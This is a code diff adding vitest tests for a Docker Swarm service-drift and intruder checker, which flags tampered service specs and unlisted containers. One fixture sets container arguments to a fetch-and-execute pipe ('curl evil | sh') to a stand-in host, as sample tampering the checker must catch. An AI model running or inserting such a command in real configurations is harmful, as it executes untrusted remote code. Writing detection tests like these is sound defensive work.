@@ -9,6 +9,7 @@ import { describe, expect, test } from 'vitest';
 import { HardenedService, ServiceSecret } from '../../lib';
 import { serviceCreatePlan, ServiceCreatePlan } from '../../lib/engine/service-mapping';
 import { resolveReferences } from '../../lib/engine/stack';
+import { intruders, intruderServices } from '../../lib/verify/check-networks';
 import { compareService, constraintHolds, LiveNode, LiveTask } from '../../lib/verify/check-services';
 
 const IMAGE = `registry.example.com/api@sha256:${'c'.repeat(64)}`;
@@ -43,7 +44,12 @@ function live(p: ServiceCreatePlan, change: (spec: any) => void = () => undefine
   spec.TaskTemplate.Networks = [{ Target: NET_ID }];
   change(spec);
   const task: LiveTask = { ID: 't'.repeat(25), NodeID: 'node1', Slot: 1, Spec: spec.TaskTemplate, DesiredState: 'running', Status: { State: 'running' } };
-  return { service: { ID: 'svc', Spec: spec }, context: { networkNames: new Map([[NET_ID, networkName]]), nodes: [NODE], tasks: [task] } };
+  return {
+    service: { ID: 'svc', Spec: spec },
+    context: {
+      networkNames: new Map([[NET_ID, networkName]]), nodes: [NODE], tasks: [task], secretNames: new Map([['sid', 'db'], ['other', 'root-ca-key']]),
+    },
+  };
 }
 
 function findings(change: (spec: any) => void = () => undefined, context: (c: any) => void = () => undefined): string[] {
@@ -138,5 +144,41 @@ describe('compareService: what else a task can be given', () => {
   test('drift: hosts entries, DNS configuration, hostname', () => {
     expect(findings((s) => { s.TaskTemplate.ContainerSpec.Hosts = ['10.0.0.1 db']; })).toEqual(['drift hosts']);
     expect(findings((s) => { s.TaskTemplate.ContainerSpec.Hostname = 'x'; })).toEqual(['drift hostname']);
+  });
+});
+
+describe('compareService: fails closed on what a tamperer can change', () => {
+  test.each([
+    ['logging switched off', (s: any) => { s.TaskTemplate.LogDriver = { Name: 'none' }; }, 'weaker log_driver'],
+    ['a restart window (restarts never stop)', (s: any) => { s.TaskTemplate.RestartPolicy.Window = 1e9; }, 'weaker restart_policy.window'],
+    ['another program', (s: any) => { s.TaskTemplate.ContainerSpec.Args = ['sh', '-c', 'curl evil | sh']; }, 'weaker args'],
+    ['the healthcheck disabled', (s: any) => { s.TaskTemplate.ContainerSpec.Healthcheck = { Test: ['NONE'] }; }, 'weaker healthcheck'],
+    ['another secret under the same file name', (s: any) => { s.TaskTemplate.ContainerSpec.Secrets[0].SecretID = 'other'; }, 'weaker secrets.db'],
+    ['a secret that is not declared', (s: any) => {
+      s.TaskTemplate.ContainerSpec.Secrets.push({ SecretID: 'other', SecretName: 'root-ca-key', File: { Name: 'ca', UID: '0', GID: '0', Mode: 0o400 } });
+    }, 'weaker secrets.ca'],
+    ['ulimits', (s: any) => { s.TaskTemplate.ContainerSpec.Ulimits = [{ Name: 'nproc', Soft: 1e6, Hard: 1e6 }]; }, 'weaker ulimits'],
+    ['an unknown ContainerSpec field', (s: any) => { s.TaskTemplate.ContainerSpec.CredentialSpec = { Config: 'x' }; }, 'weaker container_spec.CredentialSpec'],
+    ['a plugin runtime', (s: any) => { s.TaskTemplate.PluginSpec = { Name: 'evil' }; }, 'weaker task_spec.PluginSpec'],
+    ['an undeclared alias', (s: any) => { s.TaskTemplate.Networks[0].Aliases = ['db']; }, expect.stringMatching(/^weaker networks\..*\.aliases$/)],
+    ['another repository', (s: any) => { s.TaskTemplate.ContainerSpec.Image = 'evil.example.com/api:latest'; }, 'weaker image'],
+    ['the deprecated top-level Networks', (s: any) => { s.Networks = [{ Target: 'other-net' }]; }, 'weaker networks.other-net'],
+    ['a job instead of a service', (s: any) => { s.Mode = { ReplicatedJob: {} }; }, 'weaker mode'],
+  ])('%s', (_what, change, expected) => {
+    expect(findings(change)).toContainEqual(expected);
+  });
+});
+
+describe('intruders on a swarm network', () => {
+  test('a container is exempt as a declared service\'s task only by the swarm\'s task list, not by its service label', () => {
+    const attached = [
+      { id: 'task-1', name: 'api.1.x', image: 'img', state: 'running', service: 'api' },
+      { id: 'evil-1', name: 'evil', image: 'alpine', state: 'running', service: 'api' }, // a label anyone can set
+    ];
+    expect(intruders('s', 'docker_network.n', 'n', attached, new Set(), new Set(['task-1'])).map((f) => f.field)).toEqual(['containers.evil']);
+  });
+  test('an undeclared service on the network is an intruder', () => {
+    expect(intruderServices('s', 'docker_network.n', 'n', [{ id: 'svc1', name: 'spy', image: 'alpine' }, { id: 'svc2', name: 'api', image: 'img' }], new Set(['api']))
+      .map((f) => [f.kind, f.field])).toEqual([['intruder', 'services.spy']]);
   });
 });
